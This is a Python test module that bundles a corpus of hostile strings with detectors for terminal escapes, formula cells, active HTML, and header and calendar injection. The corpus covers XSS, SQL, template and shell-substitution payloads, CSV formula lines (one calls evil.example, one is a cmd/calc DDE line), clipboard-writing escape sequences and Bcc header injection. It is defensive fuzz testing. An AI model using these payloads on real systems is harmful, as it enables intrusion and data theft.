"""Hostile text: a corpus, generators of more, and judges of what came out.

A text is *alive* where it does more than being read: it moves a terminal's cursor, fills the
clipboard, turns the direction of writing, hides letters, becomes a formula, a tag, a header or a
property. The judges are written apart from the code that they judge, from the standards alone.
"""

from __future__ import annotations

import csv
import io
import os
import re
import unicodedata
from html.parser import HTMLParser
from itertools import chain
from typing import TYPE_CHECKING

from hypothesis import strategies as st

if TYPE_CHECKING:
    from collections.abc import Iterator

TORTURE = os.environ.get("FMGTRACK_TORTURE") == "1"
"""Whether every text goes to every place, which takes long; otherwise a share of them does."""


def examples(usual: int) -> int:
    """How many examples hypothesis tries: so many, or many more under torture."""
    return usual * 20 if TORTURE else usual


OVERLONG = 1_000_000
"""Characters of an overlong text."""

CORPUS: dict[str, tuple[str, ...]] = {
    "escapes": (
        "\x1b[2J\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "\x1b]52;c;ZXZpbA==\x07",
        '\x1bP$q"p\x1b\\',
        "\x1b[6n\x1b[?1049h",
        "\x9b31mred\x9d52;c;ZXZpbA==\x9c\x90q\x9c",
        "a\x08\x08b\x7f\x0e\x0f\x05",
        "shown\rhidden",
        "form\x0cfeed\x0bdown",
    ),
    "markup": (
        "[bold]loud[/bold]",
        "[link=https://evil.example]x[/link]",
        "[/]",
        "[/red][red]:boom:[@click=app.bell]x[/]",
        "**bold** `code` [x](javascript:alert(1))",
    ),
    "directions": (
        "\u202egnp.exe",
        "\u2066\u2067a\u2069\u2068",
        "\u200f\u061cabc\u200e",
        "\u202a\u202b\u202d\u202c",
    ),
    "invisible": (
        "Ma\u200byo\u2060\ufeff",
        "a\u180e\u2061\u2062\u2063\u2064\u206a\u206f",
        "\u3164\u115f\u1160\uffa0\u034f",
        "\U000e0001\U000e0041\U000e0042\U000e007f",
        "\ufff9hid\ufffaden\ufffb",
        "\u200c\u200d\u00ad",
    ),
    "broken": (
        "nul\0nul",
        "half\ud800 \udfff",
        "bytes\udce9\udcff",
        "\ufffe\uffff\U0010ffff",
        "a\u0300" * 300,
        "\u0600\u06dd\U00012000\U0001f468\u200d\U0001f469\u200d\U0001f467",
    ),
    "lines": (
        "x\r\nBcc: evil@example.org",
        "x\nBcc: evil@example.org\n\n<b>body</b>",
        "x\rBcc: evil@example.org",
        "x\u2028Bcc: evil@example.org\u2029y\u0085z",
        "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:http://evil.example",
        "x\x0b\x0c\x1c\x1d\x1eBcc: evil@example.org",
        "=?utf-8?q?x=0D=0ABcc:_evil@example.org?=",
    ),
    "pages": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"'><svg/onload=alert(1)>",
        "</title></style></textarea><iframe srcdoc='<script>alert(1)</script>'>",
        "javascript:alert(1)",
        "https://example.org/' onmouseover='alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "JaVaScRiPt&#58;alert(1)//https://example.org/x",
        "<!--><![CDATA[ ]]> &lt;b&gt; &#x3c;b&#x3e;",
        "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    ),
    "formulas": (
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "   =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "'=1+1",
        "%0A=1",
        ";=1+1,=1+1\t=1+1",
    ),
    "names": (
        "../../outside",
        "..\\..\\outside",
        "/no/such/folder/outside",
        "C:\\outside",
        "\\\\server\\share\\x",
        "CON",
        "NUL.txt",
        "com1",
        "LPT9.eml",
        "trailing. . ",
        "x:stream",
        "-rf",
        "~",
        "$(touch outside)`touch outside`;touch outside|touch outside",
        "%COMSPEC%${HOME}",
        '*?<>|"',
        ".",
        "name\x1b]0;x\x07.csv",
    ),
    "sql": (
        "'; DROP TABLE program; --",
        '" OR 1=1 --',
        "name; DELETE FROM change",
        "id DESC, (SELECT 1)",
        "%' ESCAPE '\\",
        ":name ?1 @x $y",
    ),
    "templates": (
        "{{ ''.__class__.__mro__ }}",
        "{% for a in range(10**9) %}x{% endfor %}",
        "{% include '/etc/passwd' %}",
        "{0.__class__} %(x)s %n %s",
        "[[gap]] [[",
        "{# {{ {% ",
    ),
    "numbers": (
        "9" * 5_000,
        "-0",
        "1e999",
        "nan",
        "\u0661\u0662\u0663",
        "0x7fffffffffffffff",
        "p99999999999999999999999",
        "9223372036854775808",
    ),
    "paths of words": (
        "a" * 5_000,
        " " * 5_000 + "x",
        "(" * 3_000 + ")",
        "[" * 3_000,
        "a " * 3_000,
        "." * 5_000 + "x",
        "<" * 3_000 + "@" * 3_000,
        "\n" * 3_000 + "x",
    ),
}
"""Texts by what they try."""

EVERY: tuple[str, ...] = tuple(chain.from_iterable(CORPUS.values()))

STEW = (
    "=Ma\u200byo\u202e \x1b]52;c;ZXZpbA==\x07\x1b[31m\x9b1m\x7f[bold]<script>alert(1)</script>"
    "<img src=x onerror=alert(1)>'; DROP TABLE program; --{{ ''.__class__ }}\u2028\U000e0041"
    "\x85 javascript:alert(1) ../..\u2066"
)
"""One line that tries most of it at once."""

LINES = f"{STEW}\r\nBcc: evil@example.org\rX: y\n=1+1\n\n{STEW}"
"""The same over several lines."""

_PIECES = st.sampled_from((*EVERY, STEW, "\x1b", "\x9b", "\r", "\n", "=", "<", "\ud800", "\u202e"))


def texts(longest: int = 6) -> st.SearchStrategy[str]:
    """Texts put together from the corpus and from any characters."""
    odd = st.text(st.characters(), max_size=8)
    return st.lists(st.one_of(_PIECES, odd), max_size=longest).map("".join)


JOINERS = frozenset("\u200c\u200d\u00ad")
"""Marks that Persian and Hindi words, families of emoji and broken words need."""

SEEN = frozenset("\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2")
"""Signs of Arabic and Syriac that Unicode files under formatting but that are seen."""

FILLERS = frozenset("\u034f\u115f\u1160\u17b4\u17b5\u3164\uffa0")
"""Letters and marks that are drawn as nothing."""

COLOUR = re.compile(r"\x1b\[[0-9;]*m")
"""The only escape that ever goes to a terminal: it changes colour or weight."""


def controls(text: str, kept: str = "\n\t") -> list[str]:
    """The control characters in a text but for those that are kept."""
    return sorted({char for char in text if unicodedata.category(char) == "Cc"} - set(kept))


def alive(text: str, kept: str = "\n\t") -> list[str]:
    """The characters of a text that steer, turn, break or hide instead of being read."""
    quiet = JOINERS | SEEN | set(kept)
    return sorted(
        {
            char
            for char in text
            if char not in quiet
            and (unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} or char in FILLERS)
            and not 0x110BD <= ord(char) <= 0x1345F  # seen signs of Kaithi and of hieroglyphs
        }
    )


def alive_on_screen(shown: str) -> list[str]:
    """The same of what a terminal got: colours and line ends are its own."""
    return alive(COLOUR.sub("", shown).replace("\r\n", "\n"))


SIGNS = ("=", "+", "-", "@")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?", re.IGNORECASE)


def formulas(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet would run, full-width signs and space before taken in.

    A plain number is none, whatever its sign.
    """
    found = []
    for cell in chain.from_iterable(csv.reader(io.StringIO(text, newline=""))):
        plain = unicodedata.normalize("NFKC", cell).lstrip()
        runs = plain.startswith(SIGNS) and not _NUMBER.fullmatch(cell)
        if runs or cell[:1] in ("\t", "\r", "\n"):
            found.append(cell)
    return found


class _Page(HTMLParser):
    """Collects what would run or load in a page."""

    SCHEMES = ("http:", "https:", "mailto:", "#")
    RUNNING = frozenset(
        {"script", "iframe", "object", "embed", "base", "form", "foreignobject", "use", "image"}
    )

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.words: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.RUNNING:
            self.found.append(tag)
        if tag not in {"meta", "br", "col", "img", "input", "hr", "link"}:
            self.open.append(tag)
        for name, value in attrs:
            said = (value or "").strip().lower()
            addressed = name in {"href", "src", "action", "srcdoc", "xlink:href", "formaction"}
            if name.startswith("on") or (addressed and not said.startswith(self.SCHEMES)):
                self.found.append(f"{tag} {name}={said[:60]}")
            if name == "style" and ("url(" in said or "expression" in said):
                self.found.append(f"{tag} style={said[:60]}")
            if name == "http-equiv" and said == "refresh":
                self.found.append(f"{tag} refresh")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"</{tag}> that closes another element")

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def page(text: str) -> tuple[list[str], str]:
    """What would run or load in a page of HTML or is not closed in it, and all its words."""
    reader = _Page()
    reader.feed(text)
    reader.close()
    return [*reader.found, *reader.open], "".join(reader.words)


def properties(data: bytes) -> Iterator[tuple[str, str]]:
    """The properties of a calendar file as RFC 5545 section 3.1 has it, strictly.

    Raises:
        ValueError: a line is longer than 75 bytes, has no name, or does not end in CRLF.
    """
    if not data.endswith(b"\r\n"):
        raise ValueError(data[-20:])
    raw = data[:-2].split(b"\r\n")
    for physical in raw:
        if len(physical) > 75 or b"\n" in physical or b"\r" in physical:
            raise ValueError(physical)
    for line in data[:-2].replace(b"\r\n ", b"").decode().split("\r\n"):
        match = re.fullmatch(r"([A-Z0-9-]+)(?:;[^:]*)?:(.*)", line)
        if match is None:
            raise ValueError(line)
        yield match[1], match[2]


def headers(data: bytes) -> list[tuple[str, str]]:
    """The header fields of a message as RFC 5322 section 2.2 has it, unfolded and not decoded.

    Raises:
        ValueError: a line is no field, or does not end in CRLF.
    """
    head, parted, _ = data.partition(b"\r\n\r\n")
    if not parted or b"\r" in head.replace(b"\r\n", b"") or b"\n" in head.replace(b"\r\n", b""):
        raise ValueError(head)
    found: list[tuple[str, str]] = []
    for line in head.decode("ascii").split("\r\n"):
        if line[:1] in (" ", "\t") and found:
            found[-1] = (found[-1][0], found[-1][1] + line)
            continue
        name, colon, value = line.partition(":")
        if not colon or not re.fullmatch(r"[!-9;-~]+", name):
            raise ValueError(line)
        found.append((name, value.strip()))
    return found
